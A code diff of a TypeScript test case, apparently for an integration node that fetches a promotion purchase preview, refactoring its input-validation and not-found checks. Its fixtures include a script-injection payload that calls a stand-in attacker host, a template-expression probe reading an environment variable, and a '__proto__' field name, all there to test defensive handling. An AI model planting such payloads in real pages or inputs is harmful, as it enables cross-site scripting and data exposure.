@@ -1,7 +1,7 @@
 import { PENDING_PURCHASE_ID as ID } from '../../../sandbox/index.mts';
 import { byId, ITEM } from '../../support/values.mts';
-import { badIds } from '../badInput.mts';
 import { defineCase } from '../defineCase.mts';
+import { notFound } from '../errors.mts';
 
 const sends = [[`GET /api/v3/promotions/purchases/${ID}/preview?api=true`]] as const;
 
@@ -9,35 +9,28 @@ export default defineCase({
 	minimal: { parameters: { purchaseId: byId(ID) }, sends },
 	full: {
 		parameters: {
-			purchaseId: byId(ID),
 			output: 'file',
 			binaryPropertyName: 'creative',
-			options: { maxConcurrency: 1 },
 		},
-		sends,
 	},
 	headers: { accept: 'text/html' },
 	requests: [
 		{ shows: 'an ID with spaces around it', parameters: { purchaseId: byId(` ${ID}\n`) }, sends },
 	],
 	badInput: [
-		...badIds('purchaseId', 'Purchase'),
-		['the output', { output: ITEM }, "'Output' must be one of 'html', 'file'", 'pdf'],
+		['output', 'pdf', "'Output' must be one of 'html', 'file'"],
 		[
-			'the field of the file',
 			{ output: 'file', binaryPropertyName: ITEM },
-			"'Put Output File in Field' must be a name that is not reserved, but it is '__proto__'",
 			'__proto__',
+			"'Put Output File in Field' must be a name that is not reserved, but it is '__proto__'",
 		],
 	],
 	errors: [
-		{
-			when: 'the purchase is unknown',
-			isNotDescribed: true,
-			parameters: { purchaseId: byId('00000000-0000-4000-8000-000000000000') },
-			status: 404,
-			message: 'There is no pending purchase with this id.',
-		},
+		notFound(
+			'the purchase is unknown',
+			{ purchaseId: byId('00000000-0000-4000-8000-000000000000') },
+			'There is no pending purchase with this id.',
+		),
 	],
 	oddResponses: [
 		...['', '{"items":[]}', '<p>={{ $env.HOME }} {{ 1 + 1 }}</p>'].map((body) => ({
@@ -51,6 +44,5 @@ export default defineCase({
 			gives: [{ purchaseId: ID, html: '<script>fetch("https://attacker.example/")</script>' }],
 		},
 	],
-	isRepeated: true,
-	twoItems: { differ: { parameters: { output: ITEM }, values: ['html', 'file'] }, run: 'shared' },
+	differ: ['output', 'html', 'file'],
 });
